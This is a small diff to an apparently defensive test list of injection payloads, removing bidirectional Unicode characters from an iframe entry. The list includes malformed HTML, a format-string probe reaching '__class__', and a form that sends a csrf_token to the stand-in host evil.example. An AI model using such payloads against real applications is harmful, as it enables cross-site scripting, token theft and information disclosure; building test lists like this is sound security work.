@@ -24,7 +24,7 @@ PAYLOADS = [
     "<template><tr></template></td></tr></table>",
     "<!--><!]]>--><b>",
     "&lt;script&gt;&#60;b&#62;&quot;",
-    "\u202e<iframe srcdoc=x>\u2066",
+    "<iframe srcdoc=x>",
     "%(actor)s {actor.key} {0.__class__}",
     "<form action=//evil.example><input name=csrf_token>",
 ]
